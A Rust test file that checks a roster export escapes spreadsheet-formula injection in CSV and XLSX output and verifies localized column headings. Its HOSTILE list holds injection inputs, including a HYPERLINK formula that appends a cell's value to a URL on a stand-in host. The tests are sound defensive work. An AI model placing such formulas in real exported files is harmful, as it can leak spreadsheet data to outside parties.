//! Names that a spreadsheet would take for formulas, marks and headings.

use super::super::town::town;
use super::{csv_table, exported, folder, lines, workbook_tables};
use crate::contract;
use crate::support::database::Harness;
use crate::support::program::{Program, text};

contract!(
    a_hostile_name_stays_a_name,
    headings_are_codes_unless_people_read_them,
);

/// Names as a file might bring them in.
const HOSTILE: &[&str] = &[
    "=HYPERLINK(\"http://example.com?\"&A1,\"x\")",
    "+1+1",
    "@SUM(A1:A9)",
    "-2+3",
    "＝1＋1",
    "'=1",
];

async fn a_hostile_name_stays_a_name(harness: &Harness) {
    let program = Program::over(harness);
    for (number, name) in HOSTILE.iter().enumerate() {
        let (id, name) = (format!("list:{number}"), format!("name={name}"));
        program.done(&["record", "company", &id, "registered", &name]);
        let unit = ["occupancy-started", "carrier=hub", "unit=-7"];
        if number == 0 {
            let declare = ["registered", "name=H", "types=park", "--on", "2015"];
            program.done(&[&["record", "carrier", "hub"], &declare[..]].concat());
        }
        program.done(
            &[
                &["record", "company", &id],
                &unit[..],
                &["--on", "2016-01-01"],
            ]
            .concat(),
        );
    }
    let roster = ["roster", "--carrier", "hub", "--as-of", "2016-06-01"];
    let names: Vec<String> = lines(&program, &roster)
        .iter()
        .map(|row| text(row, "name").to_owned())
        .collect();
    let mut sorted = names.clone();
    sorted.sort_unstable();
    let mut expected: Vec<_> = HOSTILE.to_vec();
    expected.sort_unstable();
    assert_eq!(sorted, expected, "JSON holds the names as they are");

    let folder = folder();
    let csv = exported(&program, folder.path(), "r.csv", &roster);
    let raw = String::from_utf8(csv.clone()).expect("UTF-8");
    let mut reader = csv::Reader::from_reader(raw.as_bytes());
    for (record, name) in reader.records().zip(&names) {
        let record = record.expect("a record");
        assert_eq!(record[2], format!("'{name}"));
        assert_eq!(&record[5], "-7", "a signed number is left alone");
    }
    let column = |table: &[Vec<String>]| -> Vec<String> {
        table[1..].iter().map(|row| row[2].clone()).collect()
    };
    assert_eq!(column(&csv_table(&csv)), names, "read back as they were");
    let workbook = workbook_tables(exported(&program, folder.path(), "r.xlsx", &roster));
    assert_eq!(column(&workbook["roster"]), names, "texts, not formulas");
}

async fn headings_are_codes_unless_people_read_them(harness: &Harness) {
    let program = town(harness);
    let roster = ["roster", "--carrier", "hub", "--as-of", "2018-12-31"];
    let header = |args: &[&str]| {
        let out = program.done(&[&["export"], &roster[..], args].concat());
        out.lines().next().unwrap_or_default().to_owned()
    };
    let codes = "observed_on,id,name,usci,id:town,unit,area,tenure,role,since";
    assert_eq!(header(&[]), format!("\u{feff}{codes}"));
    assert_eq!(header(&["--lang", "zh", "--no-bom"]), codes);
    let zh = "\u{feff}名单日期,编号,企业名称,统一社会信用代码,编号（town）,单元,面积（平方米）,使用方式,空间类型,自";
    assert_eq!(header(&["--headings", "zh"]), zh);
    let en = "\u{feff}observed on,id,name,USCI,id (town),unit,area (m2),tenure,role,since";
    assert_eq!(header(&["--headings", "en"]), en);
    let folder = folder();
    let args = [&roster[..], &["--headings", "zh"]].concat();
    let workbook = workbook_tables(exported(&program, folder.path(), "r.xlsx", &args));
    assert_eq!(
        workbook["roster"][0].join(","),
        zh.trim_start_matches('\u{feff}')
    );
}
